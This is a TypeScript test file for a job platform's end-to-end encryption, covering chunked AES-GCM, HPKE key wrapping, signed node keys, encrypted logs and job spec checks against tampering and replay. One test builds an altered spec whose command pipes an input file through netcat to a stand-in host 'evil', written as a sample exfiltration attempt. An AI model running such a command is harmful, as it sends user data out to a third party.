/** Issue 13: the end-to-end crypto (HPKE key wrapping, chunked AEAD of files and logs) refuses every altered input. */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { describe, it } from 'node:test';
import { e2eSpecDigest, generateNodeKeyPair, JobSpec, nodeIdFromPublicKey, signNodeEncryptionKey, verifyNodeEncryptionKey } from '../src/index.js';
import {
  CHUNK_BYTES,
  ciphertextSize,
  decryptBuffer,
  decryptFile,
  decryptLogData,
  decryptStream,
  E2eDecryptError,
  encryptBuffer,
  encryptFile,
  encryptLogData,
  generateX25519KeyPair,
  HEADER_BYTES,
  isWrappedKey,
  MAX_LOG_PLAINTEXT_BYTES,
  plaintextSize,
  TAG_BYTES,
  unwrapKey,
  wrapKey,
  type WrapContext,
  x25519Fingerprint,
  x25519PublicOf,
} from '../src/e2e/index.js';

const key = () => new Uint8Array(randomBytes(32));
const SIZES = [0, 1, CHUNK_BYTES - 1, CHUNK_BYTES, CHUNK_BYTES + 1, 3 * CHUNK_BYTES, 3 * CHUNK_BYTES + 17];

describe('e2e payload encryption (chunked AES-256-GCM, STREAM)', () => {
  it('round-trips every size across chunk edges, with the size known in advance', () => {
    const k = key();
    for (const n of SIZES) {
      const plain = randomBytes(n);
      const sealed = encryptBuffer(plain, k);
      assert.equal(sealed.length, ciphertextSize(n), `size ${n}`);
      assert.equal(plaintextSize(sealed.length), n);
      assert.deepEqual(decryptBuffer(sealed, k), plain);
    }
  });

  it('two encryptions of one plaintext under one key differ (a random salt per file)', () => {
    const k = key();
    const p = Buffer.from('same');
    assert.notDeepEqual(encryptBuffer(p, k), encryptBuffer(p, k));
  });

  it('refuses a flipped bit anywhere: header, body or tag', () => {
    const k = key();
    const sealed = encryptBuffer(randomBytes(2 * CHUNK_BYTES + 5), k);
    for (const at of [0, 5, 10, HEADER_BYTES, HEADER_BYTES + CHUNK_BYTES, sealed.length - 1]) {
      const bad = Buffer.from(sealed);
      bad[at] = (bad[at] as number) ^ 1;
      assert.throws(() => decryptBuffer(bad, k), E2eDecryptError, `bit at ${at}`);
    }
  });

  it('refuses a truncated stream: at a chunk boundary, mid-chunk, or inside the header', () => {
    const k = key();
    const sealed = encryptBuffer(randomBytes(3 * CHUNK_BYTES + 100), k);
    const oneChunk = CHUNK_BYTES + TAG_BYTES;
    for (const len of [HEADER_BYTES + 2 * oneChunk, HEADER_BYTES + oneChunk + 10, HEADER_BYTES + 3 * oneChunk, 10, HEADER_BYTES]) {
      assert.throws(() => decryptBuffer(sealed.subarray(0, len), k), E2eDecryptError, `length ${len}`);
    }
  });

  it('refuses reordered chunks and a chunk appended from another file', () => {
    const k = key();
    const sealed = encryptBuffer(randomBytes(3 * CHUNK_BYTES + 100), k);
    const c = CHUNK_BYTES + TAG_BYTES;
    const h = sealed.subarray(0, HEADER_BYTES);
    const chunk = (i: number) => sealed.subarray(HEADER_BYTES + i * c, HEADER_BYTES + (i + 1) * c);
    const swapped = Buffer.concat([h, chunk(1), chunk(0), chunk(2), sealed.subarray(HEADER_BYTES + 3 * c)]);
    assert.throws(() => decryptBuffer(swapped, k), E2eDecryptError);
    const other = encryptBuffer(randomBytes(CHUNK_BYTES + 3), k);
    const spliced = Buffer.concat([sealed.subarray(0, HEADER_BYTES + 3 * c), other.subarray(HEADER_BYTES + c)]);
    assert.throws(() => decryptBuffer(spliced, k), E2eDecryptError);
    assert.throws(() => decryptBuffer(Buffer.concat([sealed, Buffer.alloc(TAG_BYTES)]), k), E2eDecryptError, 'extended');
  });

  it('refuses the wrong key', () => {
    const sealed = encryptBuffer(Buffer.from('secret'), key());
    assert.throws(() => decryptBuffer(sealed, key()), E2eDecryptError);
  });

  it('streams files (written whole or not at all) and fails a tampered file stream without leaving a file', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'gpux-e2e-'));
    try {
      const k = key();
      const plain = randomBytes(5 * CHUNK_BYTES + 123);
      await writeFile(join(dir, 'in'), plain);
      await encryptFile(join(dir, 'in'), join(dir, 'in.enc'), k);
      assert.equal((await stat(join(dir, 'in.enc'))).size, ciphertextSize(plain.length));
      await decryptFile(join(dir, 'in.enc'), join(dir, 'out'), k);
      assert.deepEqual(await readFile(join(dir, 'out')), plain);
      const bad = await readFile(join(dir, 'in.enc'));
      const at = HEADER_BYTES + 3 * (CHUNK_BYTES + TAG_BYTES) + 9;
      bad[at] = (bad[at] as number) ^ 0x80;
      await writeFile(join(dir, 'bad.enc'), bad);
      await assert.rejects(decryptFile(join(dir, 'bad.enc'), join(dir, 'bad'), k), E2eDecryptError);
      await assert.rejects(stat(join(dir, 'bad')), { code: 'ENOENT' });
      await assert.rejects(stat(join(dir, 'bad.part')), { code: 'ENOENT' });
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('decrypts a stream fed in odd-sized pieces', async () => {
    const k = key();
    const plain = randomBytes(2 * CHUNK_BYTES + 999);
    const sealed = encryptBuffer(plain, k);
    const pieces: Buffer[] = [];
    for (let i = 0; i < sealed.length; i += 7777) pieces.push(sealed.subarray(i, i + 7777));
    const out: Buffer[] = [];
    const sink = new Writable({
      write(c: Buffer, _enc, cb) {
        out.push(c);
        cb();
      },
    });
    await pipeline(Readable.from(pieces), decryptStream(k), sink);
    assert.deepEqual(Buffer.concat(out), plain);
  });
});

describe('e2e key wrapping (HPKE X25519/HKDF-SHA256/AES-256-GCM)', () => {
  const node = generateX25519KeyPair();
  const specDigest = e2eSpecDigest({ image: 'busybox', command: ['cat', 'in'], encryption: { buyerKey: generateX25519KeyPair().publicKey } });
  const ctx: WrapContext = { purpose: 'input', jobId: 'j-1', attemptId: 'a-1', recipientFingerprint: x25519Fingerprint(node.publicKey), specDigest };

  it('wraps and unwraps a data key; the private key gives back its public key', async () => {
    const dk = key();
    const wrapped = await wrapKey(dk, node.publicKey, ctx);
    assert.ok(isWrappedKey(wrapped), wrapped);
    assert.deepEqual(await unwrapKey(wrapped, node.privateKey, ctx), dk);
    assert.equal(x25519PublicOf(node.privateKey), node.publicKey);
  });

  it('another node cannot unwrap, nor can the key be replayed to another attempt, job or purpose', async () => {
    const wrapped = await wrapKey(key(), node.publicKey, ctx);
    const other = generateX25519KeyPair();
    await assert.rejects(unwrapKey(wrapped, other.privateKey, ctx), /does not open/);
    const altered = e2eSpecDigest({ image: 'busybox', command: ['sh', '-c', 'cat in | nc evil 1'], encryption: { buyerKey: generateX25519KeyPair().publicKey } });
    for (const c of [{ ...ctx, attemptId: 'a-2' }, { ...ctx, attemptId: null }, { ...ctx, jobId: 'j-2' }, { ...ctx, purpose: 'output' as const }, { ...ctx, specDigest: altered }]) {
      await assert.rejects(unwrapKey(wrapped, node.privateKey, c), /does not open/, JSON.stringify(c));
    }
    const bad = Buffer.from(wrapped, 'base64');
    bad[40] = (bad[40] as number) ^ 1;
    await assert.rejects(unwrapKey(bad.toString('base64'), node.privateKey, ctx), /does not open/);
  });

  it('refuses to wrap to a key the context does not name', async () => {
    await assert.rejects(wrapKey(key(), generateX25519KeyPair().publicKey, ctx), /another recipient/);
    await assert.rejects(wrapKey(key(), node.publicKey, { ...ctx, specDigest: undefined }), /spec digest/);
  });
});

describe('e2e node encryption key and log entries', () => {
  it('the node identity signs its encryption key; another identity or another key does not verify', () => {
    const id = generateNodeKeyPair();
    const enc = signNodeEncryptionKey(generateX25519KeyPair().publicKey, id.privateKeyPem);
    assert.ok(verifyNodeEncryptionKey(enc, id.publicKey));
    assert.ok(nodeIdFromPublicKey(id.publicKey).startsWith('n-'));
    assert.equal(verifyNodeEncryptionKey(enc, generateNodeKeyPair().publicKey), false);
    assert.equal(verifyNodeEncryptionKey({ ...enc, publicKey: generateX25519KeyPair().publicKey }, id.publicKey), false);
  });

  it('log entries decrypt only as the entry they were written as', () => {
    const k = key();
    const c = { attemptId: 'a-1', seq: 4, stream: 'stdout' as const };
    const data = encryptLogData('hello marker', k, c);
    assert.equal(decryptLogData(data, k, c).toString(), 'hello marker');
    assert.throws(() => decryptLogData(data, k, { ...c, seq: 5 }), E2eDecryptError);
    assert.throws(() => decryptLogData(data, k, { ...c, stream: 'stderr' }), E2eDecryptError);
    assert.throws(() => decryptLogData(data, key(), c), E2eDecryptError);
    const full = encryptLogData(Buffer.alloc(MAX_LOG_PLAINTEXT_BYTES, 0x41), k, c);
    assert.ok(Buffer.byteLength(full) <= 64 * 1024);
    assert.throws(() => encryptLogData(Buffer.alloc(MAX_LOG_PLAINTEXT_BYTES + 1), k, c), /split/);
  });
});

describe('encrypted job specs', () => {
  const buyerKey = generateX25519KeyPair().publicKey;
  const base = { name: 'e', image: 'busybox', command: ['true'] };
  const blob = { path: 'in', blob: 'a'.repeat(64), size: ciphertextSize(3), encrypted: { sha256: 'b'.repeat(64), size: 3 } };

  it('accepts encrypted blob inputs and refuses inline, URL or plain blob inputs with a way out', () => {
    assert.ok(JobSpec.safeParse({ ...base, encryption: { buyerKey }, inputs: [blob] }).success);
    for (const bad of [{ path: 'x', content: 'hi' }, { path: 'x', blob: 'a'.repeat(64), size: 1 }]) {
      const r = JobSpec.safeParse({ ...base, encryption: { buyerKey }, inputs: [bad] });
      assert.equal(r.success, false);
      assert.match(JSON.stringify(r.error?.issues), /gpux job submit --encrypt/);
    }
    const r = JobSpec.safeParse({ ...base, inputs: [blob] });
    assert.equal(r.success, false, 'encrypted input in a plain job');
    assert.equal(JobSpec.safeParse({ ...base, encryption: { buyerKey: 'short' } }).success, false);
  });
});
